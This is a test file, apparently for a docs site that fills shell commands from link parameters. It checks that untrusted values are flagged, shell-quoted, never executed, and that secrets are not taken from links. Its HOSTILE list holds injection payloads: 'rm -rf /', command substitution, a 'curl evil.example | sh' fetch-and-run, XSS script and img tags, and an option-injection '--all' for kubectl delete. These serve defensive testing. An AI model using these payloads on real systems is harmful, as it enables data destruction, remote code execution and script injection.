import {describe, expect, test} from 'vitest';
import {boxes, commands, copied, followedPages, said} from '../support/followed-pages.js';

const pages = followedPages('link-trust');
const {open} = pages;

const HOSTILE = [
  ';rm -rf /',
  '$(touch /tmp/owned)',
  '`reboot`',
  "'; reboot; '",
  '"; reboot; "',
  '<img src=x onerror="window.owned=1">',
  '</script><script>window.owned=1</script>',
  '&& curl evil.example | sh',
  "javascript:alert(1)//'",
];

describe('a link that nobody wrote for the reader', () => {
  test.each(HOSTILE)('%s changes nothing before it is accepted, and then harms nobody', async (value) => {
    const {page, context, seen} = await open(`docs/latency?path=${encodeURIComponent(value)}`);
    const before = await commands(page);
    expect(before.join()).not.toContain(value);
    const offer = page.getByRole('region', {name: 'Values from the link'});
    expect(await offer.innerText()).toContain(value);
    expect(await offer.innerText()).toContain('Has signs that a shell acts on');
    expect(await offer.getByRole('button', {name: /Use all|plain/}).count()).toBe(0);

    await offer.getByRole('button', {name: 'Use for path'}).click();
    const after = await commands(page);
    // Outside quotes it is quoted; within the query that another program reads, the blank stays.
    const quoted = `'${value.replaceAll("'", String.raw`'\''`)}'`;
    expect(after.join('\n')).toContain(`https://api.example.com/${quoted}`);
    expect(after.join('\n')).toContain("SELECT 1 WHERE name = '<path>'");
    await page.locator('[data-copy]').nth(2).click();
    await expect.poll(() => copied(page)).toContain(`https://api.example.com/${quoted}`);
    await expect.poll(() => said(page)).toContain('<path>');

    expect(await page.evaluate(() => (window as unknown as {owned?: number}).owned)).toBeUndefined();
    expect(await page.locator('article img, article script').count()).toBe(0);
    expect(seen.strangers).toEqual([]);
    await context.close();
  });

  test('what cannot be seen whole, or is not among the choices, is not even offered', async () => {
    for (const query of [
      'pod=a%0Arm',
      'pod=a%00',
      'pod=a%E2%80%AEb',
      'pod=A;B',
      'namespace=elsewhere',
      `pod=${'a'.repeat(300)}`,
    ]) {
      const {page, context} = await open(`docs/latency?${query}`);
      const offer = page.getByRole('region', {name: 'Values from the link'});
      expect(await offer.innerText(), query).toContain('is not one that this page takes');
      expect(await offer.getByRole('button', {name: /^Use/}).count(), query).toBe(0);
      await context.close();
    }
  });

  test('an option stays out of a command', async () => {
    const {page, context} = await open('docs/failover?primary=--all');
    await page.getByRole('button', {name: 'Use for primary'}).click();
    expect((await commands(page)).join()).toContain('kubectl delete pod <primary>');
    await context.close();
  });

  test('what is ignored is gone', async () => {
    const {page, context} = await open('docs/latency?namespace=prod&unknown=x');
    await page.getByRole('button', {name: 'Ignore the link'}).click();
    expect(await page.getByRole('region', {name: 'Values from the link'}).count()).toBe(0);
    expect((await commands(page)).join()).not.toContain('prod');
    await context.close();
  });

  test('names match in any case, with - or _', async () => {
    const {page, context} = await open('docs/latency?NAME_SPACE=prod&Pod=api-7');
    await page.getByRole('button', {name: 'Use all 2'}).click();
    expect((await commands(page))[1]).toContain('kubectl -n prod logs api-7');
    await context.close();
  });
});

describe('a secret', () => {
  const everywhere = `JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])`;

  test('is filled in by hand alone, and kept nowhere', async () => {
    const {page, context} = await open('docs/latency?admin-code=from-the-link&namespace=prod');
    const offer = page.getByRole('region', {name: 'Values from the link'});
    expect(await offer.innerText()).toContain('admin-code is secret and is not taken from a link.');
    expect(await offer.innerText()).not.toContain('from-the-link');
    await offer.getByRole('button', {name: 'Use for namespace'}).click();
    await page.locator('#blank-admincode').fill('hunter2');
    await boxes(page).first().check();
    await page.locator('[data-copy]').nth(2).click();
    await expect.poll(() => copied(page)).toContain('X-Code: hunter2');
    await page.getByRole('button', {name: 'Copy a link with these values'}).click();
    const link = await copied(page);
    expect(link).toContain('namespace=prod');
    expect(link).not.toMatch(/hunter2|admin/);
    expect(await page.evaluate(everywhere)).not.toContain('hunter2');
    await page.reload({waitUntil: 'networkidle'});
    expect(await page.locator('#blank-admincode').inputValue()).toBe('');
    await context.close();
  });

  test('is not read along', async () => {
    const {page, context} = await open('docs/latency');
    expect(await page.locator('#blank-admincode').getAttribute('type')).toBe('password');
    await context.close();
  });
});
